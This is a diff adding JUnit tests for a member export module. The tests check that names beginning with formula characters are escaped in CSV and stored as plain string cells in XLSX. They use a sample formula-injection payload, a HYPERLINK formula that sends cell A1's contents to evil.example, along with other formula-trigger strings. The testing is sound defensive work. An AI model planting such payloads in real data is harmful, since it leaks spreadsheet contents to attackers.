@@ -13,6 +13,7 @@ import java.io.ByteArrayInputStream;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
+import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.junit.jupiter.api.Test;
@@ -167,6 +168,54 @@ public class MemberExportFilesTest {
             assertThat(sheet.getRow(2).getCell(8).getStringCellValue()).isEqualTo("良好");
             assertThat(sheet.getRow(2).getCell(11).getStringCellValue()).isEmpty();
             assertThat(sheet.getLastRowNum()).isEqualTo(2);
+        }
+    }
+
+    private static MemberView named(String name) {
+        return new MemberView(
+                "m9",
+                name,
+                "LEVEL_ONLY",
+                null,
+                null,
+                null,
+                "NONE",
+                "NONE",
+                "NOT_DECLARED",
+                null,
+                null,
+                null,
+                null,
+                null,
+                null,
+                null);
+    }
+
+    @Test
+    void aNameThatASpreadsheetWouldRunAsAFormulaIsExportedAsText() {
+        String attack = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
+        List<String> names = List.of(attack, "+1+1", "-2+3", "@SUM(A1:A2)", "\tTab", "\rReturn", "安全な名前", "a=b");
+
+        String csv = new String(
+                MemberExportFiles.csv(
+                        names.stream().map(MemberExportFilesTest::named).toList(), EDITION),
+                StandardCharsets.UTF_8);
+        List<List<String>> rows = parse(csv.replace("\r\n", "\n"));
+
+        assertThat(rows.subList(1, rows.size()).stream().map(row -> row.get(1)))
+                .containsExactly("'" + attack, "'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\tTab", "'\rReturn", "安全な名前", "a=b");
+        assertThat(csv).doesNotContain("\"=HYPERLINK");
+    }
+
+    @Test
+    void theWorkbookWritesANameAsAStringCellNeverAFormula() throws Exception {
+        String attack = "=HYPERLINK(\"https://evil.example/\",\"Click\")";
+        try (XSSFWorkbook workbook =
+                new XSSFWorkbook(new ByteArrayInputStream(MemberExportFiles.xlsx(List.of(named(attack)), EDITION)))) {
+            Sheet sheet = workbook.getSheet("会員");
+            assertThat(sheet.getRow(1).getCell(1).getCellType()).isEqualTo(CellType.STRING);
+            assertThat(sheet.getRow(1).getCell(1).getStringCellValue()).isEqualTo(attack);
+            sheet.getRow(1).forEach(cell -> assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA));
         }
     }
 
